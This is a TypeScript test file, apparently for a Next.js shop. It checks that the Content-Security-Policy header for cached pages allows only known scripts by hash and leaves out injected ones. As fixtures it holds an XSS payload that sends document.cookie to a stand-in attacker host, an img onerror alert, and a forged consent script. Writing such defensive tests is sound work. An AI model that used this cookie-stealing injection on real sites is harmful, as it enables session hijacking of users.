import { pageEntryHeaders } from './page-entry-csp.cjs';
import { OWN_INLINE_SCRIPTS } from './own-inline-script-hashes.cjs';
import { sha256Source } from './script-hashes.cjs';
import { CONSENT_DEFAULT_ELEMENT_ID, CONSENT_DEFAULT_SCRIPT } from '@/lib/consent/consent-default-script.cjs';

const FLIGHT = 'self.__next_f.push([1,"0:{}\\n"])';
const BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])';
const INJECTED = 'fetch("//evil.example/"+document.cookie)';
const SALES_BAR = OWN_INLINE_SCRIPTS[0] ?? '';

const page = [
  '<!DOCTYPE html><html><head><script src="/_next/static/chunks/a.js" async=""></script></head><body>',
  `<div id="sales-bar"></div><script>${SALES_BAR}</script>`,
  `<div class="rich-text"><p>Back-office text</p><script>${INJECTED}</script><img src=x onerror="alert(1)"></div>`,
  '<script type="application/ld+json">{"@type":"Product"}</script>',
  `<script>${BOOTSTRAP}</script><script>${FLIGHT}</script></body></html>`,
].join('');

const scriptSources = (policy: string | undefined) => policy?.split('; ').find((directive) => directive.startsWith('script-src '))?.split(' ').slice(1) ?? [];

describe('policy of a cached page', () => {
  it("names Next.js's data scripts and the shop's own scripts by hash, nothing injected", () => {
    const headers = pageEntryHeaders(page, { 'x-next-cache-tags': 'product:1' }, {});
    const sources = scriptSources(headers['content-security-policy'] as string);
    expect(sources).toEqual(expect.arrayContaining(["'self'", sha256Source(BOOTSTRAP), sha256Source(FLIGHT), sha256Source(SALES_BAR)]));
    expect(sources).not.toContain(sha256Source(INJECTED));
    // Next.js's two data scripts and the shop's own fixed scripts (the sales bar's, the Consent Mode default, the
    // consent banner's show script).
    expect(sources).toHaveLength(6);
    expect(sources.some((source) => source.startsWith("'nonce-") || source === "'unsafe-inline'")).toBe(false);
    expect(headers['x-next-cache-tags']).toBe('product:1');
  });

  it('replaces the policy of earlier HTML', () => {
    const first = pageEntryHeaders(page, undefined, {});
    const changed = page.replace(FLIGHT, 'self.__next_f.push([1,"1:{}\\n"])');
    const second = pageEntryHeaders(changed, first, {});
    expect(scriptSources(second['content-security-policy'] as string)).toContain(sha256Source('self.__next_f.push([1,"1:{}\\n"])'));
    expect(scriptSources(second['content-security-policy'] as string)).not.toContain(sha256Source(FLIGHT));
  });

  it('adds the error-reporting origin when a DSN is configured', () => {
    const headers = pageEntryHeaders(page, {}, { SENTRY_DSN: 'https://key@o9.ingest.sentry.io/1' });
    expect(headers['content-security-policy']).toContain("connect-src 'self' https://o9.ingest.sentry.io");
  });
});

describe('the tag manager in the policy of a cached page (ADR 0058)', () => {
  const consentScript = `<script id="${CONSENT_DEFAULT_ELEMENT_ID}" data-container="GTM-5XKQ7ZT">${CONSENT_DEFAULT_SCRIPT}</script>`;
  const withContainer = page.replace('<head>', `<head>${consentScript}`);
  const env = { TAG_MANAGER_URL: 'http://127.0.0.1:4100' };

  it('allows the tag-manager origin only on a page whose shop has a container', () => {
    const policy = pageEntryHeaders(withContainer, {}, env)['content-security-policy'] as string;
    expect(scriptSources(policy)).toEqual(expect.arrayContaining([sha256Source(CONSENT_DEFAULT_SCRIPT), 'http://127.0.0.1:4100']));
    expect(policy).toContain("connect-src 'self' http://127.0.0.1:4100");
    const without = pageEntryHeaders(page, {}, env)['content-security-policy'] as string;
    expect(without).not.toContain('127.0.0.1:4100');
  });

  it('does not take a look-alike script for the consent default', () => {
    const forged = page.replace('<head>', `<head><script id="${CONSENT_DEFAULT_ELEMENT_ID}">${INJECTED}</script>`);
    expect(pageEntryHeaders(forged, {}, env)['content-security-policy']).not.toContain('127.0.0.1:4100');
  });
});
